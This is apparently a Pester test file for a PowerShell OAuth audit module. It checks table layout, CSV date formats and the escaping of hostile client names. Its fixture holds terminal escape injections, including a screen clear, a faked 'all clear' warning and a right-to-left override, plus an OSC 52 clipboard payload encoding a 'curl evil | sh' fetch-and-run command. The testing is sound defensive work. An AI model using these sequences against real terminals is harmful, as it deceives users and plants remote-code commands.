# What reaches the screen and the CSV in real PowerShell: Format-Table / Format-List / Out-String at 80 and 120
# columns, Export-Csv dates in two cultures, org text with terminal escapes. Offline (a snapshot), no emulator.

Describe 'Presentation' {
    BeforeAll {
        . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
        Import-OAuthAuditModule | Out-Null
        $script:Folder = Join-Path ([System.IO.Path]::GetTempPath()) ("oauthaudit-presentation-" + [guid]::NewGuid().ToString('N'))
        New-Item -ItemType Directory -Path $script:Folder | Out-Null
        $script:EvilName = "evil$([char]27)]0;pwned$([char]7)$([char]27)[2J`r`nWARNING: all clear"
        $script:EvilDescription = "clip $([char]27)]52;c;Y3VybCBldmlsIHwgc2g=$([char]7) $([char]0x202e)dcba"
        $snapshot = Get-DemoSnapshot
        $evil = [pscustomobject]@{
            id = '0f0f0f0f-0000-4000-8000-00000000e711'; name = $script:EvilName; description = $script:EvilDescription
            authorizedGrantType = 'CODE'; state = 'active'; accessTokenValiditySeconds = 172800
            registeredRedirectUri = @('https://app.example.com/cb'); scope = @('users:readonly'); dateCreated = '2026-01-02T03:04:05Z'
        }
        $snapshot.clients = @($snapshot.clients) + $evil
        $script:Snapshot = Join-Path $script:Folder 'hostile.json'
        $snapshot | ConvertTo-Json -Depth 20 | Set-Content -LiteralPath $script:Snapshot -Encoding utf8
        $script:Baseline = Join-Path (Get-RepositoryRoot) 'samples/baseline.yml'
        Connect-GcOrganization -SnapshotPath $script:Snapshot | Out-Null
        $script:Hidden = @([char]27, [char]7, "`r", [char]0x202e)

        function Assert-NoHiddenCharacter([string] $Text) {
            foreach ($character in $script:Hidden) {
                $Text.Contains([string]$character) | Should -BeFalse -Because "U+$(([int][char]$character).ToString('X4')) must not reach the screen"
            }
        }

        function Get-RenderedLine([Parameter(ValueFromPipeline)] $InputObject, [int] $Width, [switch] $List) {
            begin { $items = [System.Collections.Generic.List[object]]::new() }
            process { $items.Add($InputObject) }
            end {
                $text = if ($List) { $items | Format-List | Out-String -Width $Width } else { $items | Format-Table | Out-String -Width $Width }
                @(($text -replace "$([char]27)\[[0-9;]*m", '') -split '\r?\n' | ForEach-Object TrimEnd | Where-Object { $_ })
            }
        }
    }

    AfterAll {
        Disconnect-GcOrganization
        Remove-Item -LiteralPath $script:Folder -Recurse -Force
    }

    Context 'tables at 80 and 120 columns' {
        It 'renders <Name> with Format-Table at 80 columns, headers whole' -ForEach @(
            @{ Name = 'OAuthClient'; Script = { Get-GcOAuthClient }; Headers = 'Name GrantType State Access' }
            @{ Name = 'OAuthScope'; Script = { Get-GcOAuthScope }; Headers = 'Name IsKnown Description' }
            @{ Name = 'AuthorizationRole'; Script = { Get-GcAuthorizationRole }; Headers = 'Name IsDefault Permissions' }
            @{ Name = 'AuthorizationDivision'; Script = { Get-GcAuthorizationDivision }; Headers = 'Name Id IsHomeDivision' }
            @{ Name = 'RoleGrant'; Script = { (Get-GcOAuthClient -GrantType CLIENT-CREDENTIALS).Roles }; Headers = 'RoleName DivisionName IsKnownRole IsKnownDivision' }
            @{ Name = 'ClientAuditResult'; Script = { Get-GcOAuthClient | Test-GcOAuthClientScope -WarningAction SilentlyContinue }; Headers = 'ClientName GrantType Outcome Severity FailedRules' }
            @{ Name = 'Finding'; Script = { Get-GcOAuthClient | Test-GcOAuthClientScope -Expand -WarningAction SilentlyContinue }; Headers = 'ClientName RuleId Severity Kind Waived Subject' }
            @{ Name = 'Baseline'; Script = { Get-GcOAuthBaseline }; Headers = 'Name Source Description' }
            @{ Name = 'BaselineRule'; Script = { (Get-GcOAuthBaseline).Rules }; Headers = 'Id Severity Match Description' }
            @{ Name = 'Waiver'; Script = { (Get-GcOAuthBaseline -Path (Join-Path (Get-RepositoryRoot) 'samples/baseline.yml')).Waivers }; Headers = 'Client RuleId ExpiresOn Subject Rationale' }
            @{ Name = 'GcContext'; Script = { Get-GcContext }; Headers = 'OrganizationName Source Region GrantType IsConnected' }
        ) {
            $lines = & $Script | Get-RenderedLine -Width 80

            ($lines[0] -split ' +') -join ' ' | Should -BeExactly $Headers
            $lines[1] | Should -Match '^-+( +-+)*$'
            $lines.Count | Should -BeGreaterThan 2
            foreach ($line in $lines) {
                $line.Length | Should -BeLessOrEqual 80 -Because $line
            }

            Assert-NoHiddenCharacter ($lines -join "`n")
        }

        It 'shows the failed rules of a result at 120 columns and a token lifetime with its unit' {
            $results = Get-GcOAuthClient -Name 'Ops Wallboard Dashboard', 'Floor Wallboard Kiosk' | Test-GcOAuthClientScope -Baseline $script:Baseline -WarningAction SilentlyContinue | Get-RenderedLine -Width 120
            $findings = Get-GcOAuthClient -Name 'Floor Wallboard Kiosk' | Test-GcOAuthClientScope -Expand | Get-RenderedLine -Width 80

            $results | Should -Contain ($results | Where-Object { $_ -match '^Ops Wallboard Dashboard\s+CODE\s+Fail\s+Critical\s+NW-001(; NW-\d{3})*$' })
            @($results | Where-Object { $_ -match '^Ops Wallboard Dashboard\s+CODE\s+Fail\s+Critical\s+NW-001' }) | Should -HaveCount 1
            @($findings | Where-Object { $_ -match '^Floor Wallboard Kiosk\s+GC-002\s+Medium\s+TokenLifetime\s+False\s+172800 s$' }) | Should -HaveCount 1
        }
    }

    Context 'org text with terminal escapes' {
        It 'keeps the raw name and shows it escaped in tables, lists, Out-String and messages' {
            $client = Get-GcOAuthClient -Id '0f0f0f0f-0000-4000-8000-00000000e711'
            $client.Name | Should -BeExactly $script:EvilName
            $client.Description | Should -BeExactly $script:EvilDescription

            $shown = @(
                $client | Format-Table | Out-String -Width 200
                $client | Format-List | Out-String -Width 200
                $client | Out-String -Width 200
                "$client"
                $client | Test-GcOAuthClientScope | Format-List | Out-String -Width 400
                $client | Test-GcOAuthClientScope -Expand | Format-List | Out-String -Width 400
                $client | Test-GcOAuthClientScope -Expand | Format-Table | Out-String -Width 200
                $client.Roles | Out-String
            ) -join "`n"

            $shown | Should -Match ([regex]::Escape('evil\x1b]0;pwned\x07\x1b[2J\x0d\x0aWARNING: all clear'))
            $shown | Should -Match ([regex]::Escape('\x1b]52;c;'))
            $shown | Should -Match ([regex]::Escape('\u202edcba'))
            Assert-NoHiddenCharacter $shown
        }

        It 'flags the name and the description as SuspiciousText (GC-010, Medium) with the built-in baseline' {
            $findings = @(Get-GcOAuthClient -Id '0f0f0f0f-0000-4000-8000-00000000e711' | Test-GcOAuthClientScope -Expand | Where-Object Kind -eq 'SuspiciousText')

            ($findings | ForEach-Object { "$($_.RuleId) $($_.Severity) $($_.Subject)" }) -join '|' | Should -Be 'GC-010 Medium Name|GC-010 Medium Description'
            Assert-NoHiddenCharacter (($findings | ForEach-Object Message) -join "`n")
        }

        It 'writes errors without control characters' {
            $null = Get-GcOAuthClient -Id $script:EvilName -ErrorVariable failures -ErrorAction SilentlyContinue
            $null = Get-GcOAuthClient -Name ($script:EvilName + ' 2') -ErrorVariable more -ErrorAction SilentlyContinue

            @($failures) + @($more) | Should -HaveCount 2
            foreach ($failure in @($failures) + @($more)) {
                $failure.FullyQualifiedErrorId | Should -BeLike 'ClientNotFound,*'
                Assert-NoHiddenCharacter ($failure | Out-String -Width 400)
            }
        }
    }

    Context 'exports' {
        It 'writes dates as ISO-8601 UTC in <Culture>' -ForEach @(@{ Culture = 'de-DE' }, @{ Culture = 'en-US' }) {
            $saved = [cultureinfo]::CurrentCulture
            try {
                [cultureinfo]::CurrentCulture = $Culture
                $path = Join-Path $script:Folder "audit-$Culture.csv"
                Get-GcOAuthClient | Test-GcOAuthClientScope -Baseline $script:Baseline -WarningAction SilentlyContinue | Export-Csv -LiteralPath $path -NoTypeInformation
                Get-GcOAuthClient | Test-GcOAuthClientScope -Baseline $script:Baseline -Expand -WarningAction SilentlyContinue | Export-Csv -LiteralPath "$path.findings.csv" -NoTypeInformation
                Get-GcOAuthClient | Export-Csv -LiteralPath "$path.clients.csv" -NoTypeInformation
                $results = @(Import-Csv -LiteralPath $path)
                $findings = @(Import-Csv -LiteralPath "$path.findings.csv")
                $clients = @(Import-Csv -LiteralPath "$path.clients.csv")
            }
            finally {
                [cultureinfo]::CurrentCulture = $saved
            }

            $iso = '^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$'
            $results | ForEach-Object { $_.EvaluatedAt | Should -Match $iso }
            ($clients | Where-Object Name -eq 'Agent Softphone Embed').DateCreated | Should -BeExactly '2023-07-31T23:03:36Z'
            ($findings | Where-Object { $_.Waived -eq 'True' } | Select-Object -First 1).WaiverExpiresOn | Should -BeExactly '2030-12-31T00:00:00Z'
            $web = $findings | Where-Object { $_.ClientName -eq 'Web Messenger Deployment' -and $_.RuleId -eq 'NW-004' }
            "$($web.OrganizationName)|$($web.BaselineName)|$($web.GrantType)|$($web.State)" | Should -Be 'Northwind Contact Center|northwind-policy|TOKEN|active'
            ($results | Where-Object ClientName -eq 'Architect Flow Diff Tool').Passed | Should -Be 'False'
        }

        It 'keeps dates usable: compared with Get-Date, sorted, cast, AddDays' {
            $result = Get-GcOAuthClient -Name 'Floor Wallboard Kiosk' | Test-GcOAuthClientScope
            $clients = Get-GcOAuthClient | Where-Object DateCreated | Sort-Object DateCreated

            $result.EvaluatedAt -le (Get-Date).ToUniversalTime() | Should -BeTrue
            $result.EvaluatedAt.AddDays(1) -gt $result.EvaluatedAt | Should -BeTrue
            ([datetime]$result.EvaluatedAt).Kind | Should -Be 'Utc'
            [datetime]$clients[0].DateCreated -le [datetime]$clients[-1].DateCreated | Should -BeTrue
            "$($result.EvaluatedAt)" | Should -Match '^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$'
            ($result.EvaluatedAt | Out-String).Trim() | Should -BeExactly "$($result.EvaluatedAt)"
        }

        It 'finds the TOKEN clients with Where-Object GrantType' {
            @(Get-GcOAuthClient | Where-Object GrantType -eq TOKEN | ForEach-Object Name) -join '|' |
                Should -Be (@(Get-GcOAuthClient -GrantType TOKEN | ForEach-Object Name) -join '|')
            @(Get-GcOAuthClient | Where-Object GrantType -eq TOKEN).Count | Should -BeGreaterThan 0
        }
    }
}
